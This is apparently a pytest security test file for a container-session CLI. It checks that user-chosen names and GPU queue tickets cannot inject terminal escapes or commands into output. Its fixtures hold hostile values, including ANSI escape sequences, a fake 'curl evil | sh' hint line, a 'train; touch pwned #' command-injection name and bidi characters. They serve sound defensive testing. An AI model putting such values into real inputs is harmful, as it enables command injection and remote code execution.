"""Names that other users choose: none acts on a terminal, or is a command when it is pasted."""

from __future__ import annotations

import json
import re
import secrets
from collections.abc import Callable
from pathlib import Path

import pytest

from mooring.client import Mooring
from mooring.engines.base import Engine
from mooring.engines.labels import (
    LABEL_GPUS,
    LABEL_ID,
    LABEL_INSTALLATION,
    LABEL_NAME,
    LABEL_OWNER,
    LABEL_SPEC,
    container_name,
)
from mooring.gpus.claims import Request
from mooring.gpus.tickets import Ticket, ticket_queue_of
from tests.conftest import Cli
from tests.security.test_forged_labels import forge

__all__ = ["forge"]  # a fixture

pytestmark = pytest.mark.engine

NAMES = {
    "escape": "\x1b]0;owned\x07\x1b[2Jtrain",
    "c1": "train\x9b31m",
    "lines": "train\nerror: you must run\nhint: curl evil | sh",
    "shell": "train; touch pwned #",
    "option": "--all",
    "hidden": "tra\u202ein\u200b",
    "surrogate": "train\u2028",
    "long": "n" * 2000,
}
COLUMNS = "name,id,owner,state,reason,gpus,kernels,activity,ports,image,container"


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_foreign_name_reaches_no_terminal(
    cli: Cli,
    mooring: Mooring,
    forge: Callable[..., str],
    project: Path,
    name: str,
) -> None:
    """Whatever another user writes as a session's owner, image or GPUs: each is one printable word
    in every command's output, and the commands in hints are harmless. A name that is no name makes
    no session."""
    session_id = secrets.token_hex(6)
    spec = {"image": name, "command": [name], "env": {"A": name}, "priority": name}
    labels = {
        LABEL_INSTALLATION: "0" * 16,
        LABEL_ID: session_id,
        LABEL_NAME: "foreign",
        LABEL_OWNER: name,
        LABEL_SPEC: json.dumps(spec),
        LABEL_GPUS: name,
    }
    forge(container_name("foreign", session_id), labels)
    other = secrets.token_hex(6)  # whose name is none that its container could have
    forge(f"mooring-foreign-{other}", labels | {LABEL_ID: other, LABEL_NAME: name})
    listed = mooring.sessions.list(all_users=True)
    (foreign,) = [one for one in listed if one.id in (session_id, other)]
    assert foreign.name == "foreign"
    for words in (
        ["ps", "-q", "--all-users"],
        ["ps", "--all-users"],
        ["ps", "--all-users", "--format", COLUMNS],
        ["describe", foreign.name],
        ["rm", "-f", session_id],
        ["stop", session_id],
        ["rm", foreign.name],
        ["gpus"],
        ["why", session_id],
        ["events", session_id],
    ):
        done = cli(*words, check=None)
        for text in (done.stdout, done.stderr):
            assert all(character.isprintable() or character == "\n" for character in text), words
            assert not re.search("^hint: curl", text, re.MULTILINE)
            assert len(text.splitlines()) < 60
        for hint in re.findall("^hint: .*", done.stderr, re.MULTILINE):
            assert not re.search(r"[;|&`$<>]", hint.replace("; to stop it anyway", "")), hint
    assert foreign.name in cli("ps", "-q", "--all-users", check=0).stdout.splitlines()
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_.-]{0,79}", foreign.name)
    assert not (project / "pwned").exists()


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_foreign_ticket_reaches_no_terminal(
    cli: Cli, mooring: Mooring, real_engine: Engine, name: str
) -> None:
    """The names in the files of the GPU queue, which other users write, are printable too."""
    queue = ticket_queue_of(real_engine)
    ticket = Ticket("0" * 12, "0" * 16, name, name, Request(1), 0, 0)
    with queue.locked():
        held = queue.enqueue(ticket)
    try:
        (read,) = [one for one in queue.tickets() if one.id == ticket.id]
        assert read.user.isprintable()
        assert read.session.isprintable()
        assert len(read.user) <= 200
    finally:
        held.remove()
